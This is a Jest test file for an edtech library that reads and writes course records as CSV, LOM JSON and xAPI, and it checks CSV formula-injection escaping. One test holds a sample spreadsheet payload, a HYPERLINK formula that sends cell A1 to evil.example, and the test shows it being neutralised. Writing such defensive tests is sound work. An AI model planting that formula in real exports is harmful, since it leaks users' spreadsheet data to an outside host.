import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvHeader, csvOf, readCsv } from './csv.js';
import { guarded, unguarded } from './formulas.js';
import { readJson } from './json.js';
import { toLom } from './lom.js';
import type { FileRecord } from './record.js';
import { toActivity } from './xapi.js';

const ESCO = 'http://data.europa.eu/esco/skill/a';
const RECORDS: readonly FileRecord[] = [
  {
    identifier: 'c-1',
    title: 'Soigner, "laver" ; nourrir',
    language: 'fr',
    description: 'Première ligne.\nSeconde ligne, avec une virgule.',
    url: 'https://edtech.example/c-1',
    mappings: [
      { concept: ESCO, status: 'CONFIRMED' },
      { concept: 'urn:rome:ogr:100', status: 'CONFIRMED' },
    ],
  },
  {
    identifier: 'https://edtech.example/c-2',
    title: 'Baking',
    language: 'en-GB',
    description: null,
    url: null,
    mappings: [],
  },
  {
    identifier: 'c-3',
    title: 'xyz',
    language: null,
    description: null,
    url: null,
    mappings: [{ concept: ESCO, status: 'CONFIRMED' }],
  },
];
const undecided: FileRecord = {
  ...RECORDS[0]!,
  mappings: [
    { concept: ESCO, status: 'REJECTED' },
    { concept: 'urn:rome:ogr:100', status: 'SUGGESTED' },
  ],
};
const records = (placed: readonly { readonly record: FileRecord }[]) => placed.map(({ record }) => record);

describe('what is written is read again', () => {
  test('CSV', () => {
    for (const given of [RECORDS, [undecided]])
      expect(records(readCsv(csvHeader + given.map(csvOf).join('')))).toEqual(given);
  });
  test('LOM; it has no word for what is not confirmed', () => {
    const write = (given: readonly FileRecord[]) =>
      JSON.stringify(given.map((one) => toLom(one, 'did:web:edtech.example')));
    expect(records(readJson(write(RECORDS)))).toEqual(RECORDS);
    expect(records(readJson(write([undecided])))).toEqual([{ ...undecided, mappings: [] }]);
  });
  test('xAPI, as JSON Lines', () => {
    const given = [undecided, ...RECORDS.slice(1)];
    expect(records(readJson(given.map((one) => JSON.stringify(toActivity(one, 'urn:uuid:1'))).join('\n')))).toEqual(
      given,
    );
  });
});

describe('CSV that a spreadsheet program opens', () => {
  const FORMULAS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'];
  const linked = `=HYPERLINK("https://evil.example?" & A1; 'x')`;

  test('runs no cell: an apostrophe stands before every formula, also within quotes', () => {
    const written = csvOf({ ...RECORDS[2]!, identifier: '-2+3', title: linked, description: '@SUM(A1)', mappings: [] });

    expect(written).toBe(`'-2+3,"'=HYPERLINK(""https://evil.example?"" & A1; 'x')",,'@SUM(A1),,,\n`);
    for (const start of FORMULAS) expect(csvOf({ ...RECORDS[2]!, title: `${start}x` })).toMatch(/^c-3,"?'/);
  });

  test('and is read as the texts that were written, those that begin with an apostrophe too', () => {
    const texts = FORMULAS.slice(0, 8).flatMap((start) => [start, `${start}1`, `'${start}1`, `''${start}1`]);
    for (const text of [...texts, linked, "'", "''", "'tis", `'"=1`, 'l’=']) {
      const record = { ...RECORDS[0]!, identifier: text, title: text, description: text };
      expect(records(readCsv(csvHeader + csvOf(record)))).toEqual([record]);
    }
    fc.assert(
      fc.property(fc.string(), fc.stringMatching(/^'*[=+\-@\t\r]?.*$/), (one, other) =>
        [one, other].every((text) => unguarded(guarded(text)) === text && !FORMULAS.includes(guarded(text).charAt(0))),
      ),
    );
  });
});

describe('CSV', () => {
  test('with semicolons, a byte order mark and a part of the columns; no status is CONFIRMED', () => {
    expect(records(readCsv(`\uFEFFidentifier;title;conceptUri\nc-1;Un cours;${ESCO}\n`))).toMatchObject([
      { identifier: 'c-1', title: 'Un cours', mappings: [{ concept: ESCO, status: 'CONFIRMED' }] },
    ]);
  });
  test('several mappings are several rows; the place of each is kept', () => {
    const [placed] = readCsv('identifier,title,conceptUri,status\nc-1,"a\nb",esco:1,\nc-1,,esco:2,rejected\n');
    expect(placed).toMatchObject({
      record: { mappings: [{ status: 'CONFIRMED' }, { concept: 'esco:2', status: 'REJECTED' }] },
      places: [{ at: 'line 2' }, { at: 'line 4', field: 'column conceptUri' }],
    });
  });
  test('a language is the same in any case; another one is not', () => {
    const rows = (other: string) => `identifier,title,language,conceptUri\na,x,FR,u\na,x,${other},v\n`;
    for (const tag of ['FR', 'fr', ''])
      expect(records(readCsv(rows(tag)))).toMatchObject([
        { language: 'fr', mappings: [{ concept: 'u' }, { concept: 'v' }] },
      ]);
    expect(() => readCsv(rows('en'))).toThrow('line 3, column language: a stands above with another language');
    expect(() => readCsv(rows('f r'))).toThrow('line 3, column language: `language` must be a BCP 47 tag');
  });
  test('what has no column is kept', () => {
    const keptOf = (header: string) =>
      records(readCsv(`${header}\na,x${',fr'.repeat(header.split(',').length - 2)}\n`))[0]!.kept;
    expect(keptOf('identifier,title')).toEqual(['language', 'description', 'url']);
    expect(keptOf('identifier,title,language')).toEqual(['description', 'url']);
    expect(keptOf('identifier,title,language,description,conceptUri')).toEqual(['url']);
  });
  test.each([
    ['', 'line 1: the file is empty'],
    ['identifier,name\n', 'line 1: there is no column name'],
    ['identifier\n', 'line 1: the column title is missing'],
    ['identifier,title,title\n', 'line 1: the column title stands twice'],
    ['identifier,title\na\n', 'line 2: 1 fields, where the header has 2'],
    ['identifier,title\na,"x\ny"\nb,\n', 'line 4, column title: `title` must have 1 to 500 characters'],
    ['identifier,title,language\na,x,f r\n', 'line 2, column language: `language` must be a BCP 47 tag'],
    ['identifier,title,url\na,x,ftp://x\n', 'line 2, column url: `url` must be an http'],
    ['identifier,title,conceptUri,status\na,x,u,MAYBE\n', 'line 2, column status: the status must be one of'],
    ['identifier,title,conceptUri,status\na,x,,CONFIRMED\n', 'line 2, column conceptUri: a status needs'],
    ['identifier,title\na,x\na,y\n', 'line 3, column title: a stands above with another title'],
    ['identifier,title,conceptUri\na,x,u\na,x,u\n', 'line 3, column conceptUri: a is mapped to it above'],
    ['identifier,title\na,"x\n', 'line'],
  ])('%j: %s', (text, message) => expect(() => readCsv(text)).toThrow(message));
});

describe('JSON', () => {
  test('the ways LOM is written', () => {
    const lom = {
      general: {
        identifier: { catalog: 'URI', entry: 7 },
        title: [
          { language: 'en', string: 'Baking' },
          { language: 'fr', string: 'Boulangerie' },
        ],
        language: 'fr',
        description: { string: [{ language: 'fr', value: 'Faire du pain' }] },
      },
      technical: { location: 'https://edtech.example/7' },
      classification: [
        { taxonPath: { source: 'ROME 4.0', taxon: [{ id: 'A' }, { id: 123 }] } },
        { taxonPath: { source: { fr: 'Dewey' }, taxon: { id: '640' } } },
        { taxonPath: [{ source: 'Dewey', taxon: [{ entry: { fr: 'Cuisine' } }] }, { source: 'RAMEAU' }] },
        { purpose: 'Educational Objective', taxonPath: { source: 'ESCO', taxon: { id: ESCO } } },
        ...['prerequisite', 'skill level', 'discipline', 'educational level'].map((value) => ({
          purpose: { source: 'LOMv1.0', value },
          taxonPath: [
            { source: 'ESCO', taxon: [{ id: `${ESCO}-${value}` }] },
            { source: 'ROME', taxon: [{ id: 9 }] },
          ],
        })),
      ],
    };
    expect(records(readJson(JSON.stringify([lom])))).toEqual([
      {
        identifier: '7',
        title: 'Boulangerie',
        language: 'fr',
        description: 'Faire du pain',
        url: 'https://edtech.example/7',
        mappings: [
          { concept: 'urn:rome:ogr:123', status: 'CONFIRMED' },
          { concept: ESCO, status: 'CONFIRMED' },
        ],
      },
    ]);
  });
  const activity = (definition: unknown) =>
    JSON.stringify({ objectType: 'Activity', id: 'https://a.example/1', definition });
  test.each([
    ['', 'line 1: the file is empty'],
    ['[', 'the file: no JSON'],
    ['[{}]', 'record 1: neither a LOM record'],
    [`${activity({ name: { en: 'x' } })}\n{"id":`, 'line 2: no JSON'],
    [
      `[${activity({ name: { en: 'x' } })},${activity({ name: { en: 'x' } })}]`,
      'record 2: the identifier https://a.example/1 stands above',
    ],
    [activity({ name: 3 }), 'record 1, definition.name: must be a text'],
    [activity({}), 'record 1, definition.name: `title` must have'],
    ['{"objectType":"Activity","id":"no iri"}', 'record 1, id: must be an IRI'],
    [
      '{"general":{"identifier":[{"entry":"1"}],"title":"x"},"classification":[{"taxonPath":[{"source":"ESCO","taxon":[{"id":"x"}]}]}]}',
      'record 1, classification[0].taxonPath[0].taxon.id: a taxon of ESCO',
    ],
    [
      '{"general":{"identifier":[{"entry":"1"}],"title":"x"},"classification":[{"taxonPath":[{"source":"ROME","taxon":[{"id":"x"}]}]}]}',
      'a taxon of ROME has the OGR number',
    ],
    [
      '{"general":{"identifier":[{"entry":"1"}],"title":"x"},"classification":[{"taxonPath":[{"source":"ESCO","taxon":[{"entry":"x"}]}]}]}',
      'record 1, classification[0].taxonPath[0].taxon: must hold a taxon with an id',
    ],
  ])('%s: %s', (text, message) => expect(() => readJson(text)).toThrow(message));
});
